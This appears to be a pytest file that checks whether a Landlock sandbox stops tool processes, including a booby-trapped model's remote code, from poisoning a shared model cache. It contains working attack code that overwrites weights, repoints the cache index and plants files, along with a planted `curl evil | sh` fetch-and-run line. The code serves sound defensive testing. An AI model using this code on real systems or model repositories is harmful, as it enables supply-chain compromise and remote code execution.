"""Finding 2 (issue 11), the rest of it: the shared cache is written only by the agent's fetch phase, never by the
training or evaluation process. Code inside a job's tools (a model's hub code, an exploit in a data loader) runs as
the same user as the agent, so file permissions cannot tell them apart; the agent confines every tool process with
Landlock (runner_agent/sandbox.py), which no process can lift, root included (these tests run as whatever user
the machine gives them, root here).

The attacks are real processes: a script started exactly as the agent starts its tools, and a model whose hub code
attacks the cache from inside a real `swift sft` run."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from runner_agent import sandbox
from runner_agent.context import AgentConfig, RunContext
from runner_agent.errors import AgentError
from runner_agent.procs import Supervised, Watchdog, run_supervised
from runner_agent.sinks import EventBus
from tests.paths import REPO
from tests.runner_agent.conftest import run_agent, tiny_job

ABI, WHY = sandbox.abi_version()
needs_landlock = pytest.mark.skipif(ABI < 1, reason=f"no Landlock on this machine: {WHY}")

# What a poisoner inside a tool tries: every way of changing what the next job loads from the cache. Each attempt
# prints `ATTACK <name> ok|<errno name>`; the list of targets comes in ATTACK_TARGETS (JSON).
ATTACK = r'''
import errno, json, os
t = json.loads(os.environ["ATTACK_TARGETS"])
t.setdefault("own", os.environ["TMPDIR"])  # somewhere the tool may write: its run's own temporary directory
def attempt(name, fn):
    try:
        fn()
        print(f"ATTACK {name} ok", flush=True)
    except OSError as exc:
        print(f"ATTACK {name} {errno.errorcode.get(exc.errno, exc.errno)}", flush=True)
def overwrite():
    with open(t["weights"], "r+b") as fh:
        fh.write(b"\x00" * 8)
def plant():
    with open(os.path.join(t["snapshot"], "evil.py"), "w") as fh:
        fh.write("import os; os.system('curl evil | sh')\n")
def repoint():  # the index names the snapshot a later job loads: point it at the attacker's copy
    tmp = os.path.join(t["own"], "index.json")
    with open(tmp, "w") as fh:
        json.dump({"path": t["own"]}, fh)
    os.replace(tmp, t["index"])
def remove():
    os.unlink(t["config"])
def truncate():
    os.truncate(t["weights"], 0)
def hardlink_then_write():  # a link in a writable place would reach the cached inode
    link = os.path.join(t["own"], "weights-link")
    os.link(t["weights"], link)
    with open(link, "r+b") as fh:
        fh.write(b"\x00")
def other_run():
    with open(os.path.join(t["other_scratch"], "planted"), "w") as fh:
        fh.write("x")
def plant_for_the_agent():  # a link where the agent later writes its own file (eval-spec.json): it would write
    os.symlink(t["weights"], os.path.join(t["agent_scratch"], "eval-spec.json"))  # the cached weights instead
def write_out():  # --out is the agent's: results, logs and the adapter it uploads
    with open(os.path.join(t["out"], "results.json"), "w") as fh:
        fh.write("{}")
def own_scratch():
    with open(os.path.join(t["own"], "scratch-file"), "w") as fh:
        fh.write("fine")
attempt("overwrite", overwrite)
attempt("plant", plant)
attempt("repoint", repoint)
attempt("remove", remove)
if os.environ.get("ATTACK_TRUNCATE") == "1":
    attempt("truncate", truncate)
attempt("hardlink", hardlink_then_write)
attempt("other-run", other_run)
if "agent_scratch" in t:
    attempt("plant-for-agent", plant_for_the_agent)
    attempt("write-out", write_out)
attempt("own-scratch", own_scratch)
'''
CACHE_ATTACKS = ("overwrite", "plant", "repoint", "remove", "hardlink", "other-run")
AGENT_ATTACKS = ("plant-for-agent", "write-out")


def _shared_cache(cache: Path) -> dict[str, str]:
    """A cache as the fetch phase leaves it: one verified snapshot, its index entry, another run's scratch."""
    snapshot = cache / "models" / "huggingface" / "org--model" / ("c" * 40)
    snapshot.mkdir(parents=True)
    (snapshot / "model.safetensors").write_bytes(bytes(range(256)) * 64)
    (snapshot / "config.json").write_text('{"model_type": "qwen2"}', encoding="utf-8")
    index = cache / "models" / "index" / "huggingface" / "org--model@default.json"
    index.parent.mkdir(parents=True)
    index.write_text(json.dumps({"path": str(snapshot)}), encoding="utf-8")
    other = cache / "scratch" / "other-run-abc"
    other.mkdir(parents=True)
    return {"snapshot": str(snapshot), "weights": str(snapshot / "model.safetensors"),
            "config": str(snapshot / "config.json"), "index": str(index), "other_scratch": str(other)}


def _digest(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and "scratch" not in p.relative_to(root).parts}


def _outcomes(lines: list[str]) -> dict[str, str]:
    return {parts[1]: parts[2] for parts in (ln.split() for ln in lines if ln.startswith("ATTACK "))}


def _attack_as_a_tool(tmp_path: Path, mode: str) -> tuple[dict[str, str], dict[str, str], dict[str, str]]:
    cache = tmp_path / "cache"
    targets = _shared_cache(cache)
    before = _digest(cache)
    cfg = AgentConfig(out=tmp_path / "out", cache=cache, tool_sandbox=mode,
                      base_env={"PATH": os.environ.get("PATH", ""), "ATTACK_TRUNCATE": "1" if ABI >= 3 else "0"})
    scratch = cache / "scratch" / "this-run-xyz"
    scratch.mkdir(parents=True)
    ctx = RunContext(cfg, EventBus("t", []), Watchdog(None), scratch, tmp_path / "logs")
    ctx.confine_tools()
    cfg.out.mkdir()
    env = ctx.tool_env(offline=True, extra={"ATTACK_TARGETS": json.dumps(
        {**targets, "own": str(ctx.tool_dir), "agent_scratch": str(scratch), "out": str(cfg.out)})})
    # Started exactly as training and evaluation start their tool: ctx.tool_argv + ctx.tool_env, supervised.
    proc = Supervised(ctx.tool_argv([sys.executable, "-c", ATTACK]), env=env, log_path=ctx.logs / "attack.log")
    assert run_supervised(proc, ctx.watchdog, what="attack") == 0, list(proc.lines)
    return _outcomes(list(proc.lines)), before, _digest(cache)


@needs_landlock
def test_a_tool_process_cannot_change_the_shared_cache(tmp_path: Path) -> None:
    outcomes, before, after = _attack_as_a_tool(tmp_path, "auto")
    for name in CACHE_ATTACKS + AGENT_ATTACKS:
        # EACCES from Landlock; EXDEV for a link across directories (Landlock refuses to reparent the file).
        assert outcomes[name] in ("EACCES", "EXDEV"), (name, outcomes)
    if ABI >= 3:
        assert outcomes["truncate"] == "EACCES", outcomes
    assert outcomes["own-scratch"] == "ok", "the tool must still write its own run's files"
    assert after == before, "the shared cache changed under a confined tool"


def test_the_same_attack_succeeds_without_the_sandbox(tmp_path: Path) -> None:
    """The positive control: unconfined (TUNEBOT_TOOL_SANDBOX=off), the same process poisons the cache — also as a
    non-root user, since the agent and its tools are one user, who owns the cache."""
    outcomes, before, after = _attack_as_a_tool(tmp_path, "off")
    assert {outcomes[name] for name in ("overwrite", "plant", "repoint", "other-run", "plant-for-agent")} == {"ok"}
    assert after != before


def test_require_refuses_a_runner_that_cannot_confine_its_tools(tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "abi_version", lambda: (0, "the kernel has no Landlock"))
    ctx = RunContext(AgentConfig(out=tmp_path / "out", cache=tmp_path / "cache", tool_sandbox="require"),
                     EventBus("t", []), Watchdog(None), tmp_path / "scratch", tmp_path / "logs")
    with pytest.raises(AgentError) as err:
        ctx.confine_tools()
    assert "the kernel has no Landlock" in err.value.reason and "TUNEBOT_TOOL_SANDBOX=auto" in err.value.reason
    # auto runs, unconfined, and says so.
    auto = RunContext(AgentConfig(out=tmp_path / "out", cache=tmp_path / "cache", tool_sandbox="auto"),
                      EventBus("t", []), Watchdog(None), tmp_path / "scratch", tmp_path / "logs")
    auto.confine_tools()
    assert auto.sandbox_abi == 0 and auto.tool_argv(["swift", "sft"]) == ["swift", "sft"]


# A model whose hub code (the job opted in to trust_remote_code) attacks the cache when ms-swift imports it, then
# behaves as the Qwen2 model it wraps, so that the training itself goes on.
EVIL_MODEL = ATTACK + r'''
from transformers import Qwen2Config, Qwen2ForCausalLM
class EvilConfig(Qwen2Config):
    pass
class EvilModel(Qwen2ForCausalLM):
    config_class = EvilConfig
'''


def _tiny_model(dest: Path) -> None:
    subprocess.run([sys.executable, "-m", "runner_agent.tiny_model", "--out", str(dest), "--seed", "1234"],
                   cwd=REPO, check=True, capture_output=True, timeout=300)


@needs_landlock
@pytest.mark.slow
def test_hub_code_in_a_real_training_run_cannot_poison_the_cache(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    targets = _shared_cache(cache)
    repo = tmp_path / "checkout"
    model = repo / "evil-model"
    _tiny_model(model)
    config = json.loads((model / "config.json").read_text(encoding="utf-8"))
    config["auto_map"] = {"AutoConfig": "evil.EvilConfig", "AutoModelForCausalLM": "evil.EvilModel"}
    (model / "config.json").write_text(json.dumps(config), encoding="utf-8")
    (model / "evil.py").write_text(EVIL_MODEL, encoding="utf-8")
    before = _digest(cache)

    job = tiny_job("sandboxed-train", kind="train", benchmarks=[],
                   model={"name": "evil", "source": "local", "id": "evil-model", "model_type": "qwen2",
                          "template": "qwen", "revision": None, "hf_id": None, "trust_remote_code": True},
                   hyper={"max_steps": 2, "save_steps": 2, "logging_steps": 1, "max_length": 256})
    run = run_agent(tmp_path / "run", cache, job, "--repo-dir", str(repo), "--tool-sandbox", "require",
                    env={"ATTACK_TARGETS": json.dumps(targets),
                         "ATTACK_TRUNCATE": "1" if ABI >= 3 else "0"})
    log = (run.out / "logs" / "swift-sft.log").read_text(encoding="utf-8", errors="replace")
    outcomes = _outcomes(log.splitlines())
    assert outcomes, f"the model's hub code did not run inside ms-swift:\n{log[-3000:]}"
    for name in CACHE_ATTACKS:
        assert outcomes[name] in ("EACCES", "EXDEV"), (name, outcomes)
    after = _digest(cache)
    # The agent itself wrote the run's prepared dataset before training (its fetch phase); nothing else changed.
    assert {k: after.get(k) for k in before} == before, "ms-swift's process changed the shared cache"
    assert {k for k in after if k not in before} <= {k for k in after if k.startswith("datasets/")}
    # Confined, the training itself still works: the run succeeds and keeps its adapter.
    assert run.code == 0, run.stderr[-3000:]
    assert outcomes["own-scratch"] == "ok"
    assert (run.out / "adapter" / "adapter_config.json").is_file()
    manifest = run.results["manifest"]
    assert manifest["tool_sandbox"] == {"confined": True, "mode": "require", "how": f"Landlock ABI {ABI}"}



@needs_landlock
def test_a_cache_the_tools_may_write_is_refused(tmp_path: Path) -> None:
    """A cache under a directory every tool may write (/dev, e.g. /dev/shm) would be open to them: refused."""
    ctx = RunContext(AgentConfig(out=tmp_path / "out", cache=Path("/dev/shm/tunebot-cache")), EventBus("t", []),
                     Watchdog(None), tmp_path / "scratch", tmp_path / "logs")
    with pytest.raises(AgentError, match="holds the shared cache"):
        ctx.confine_tools()
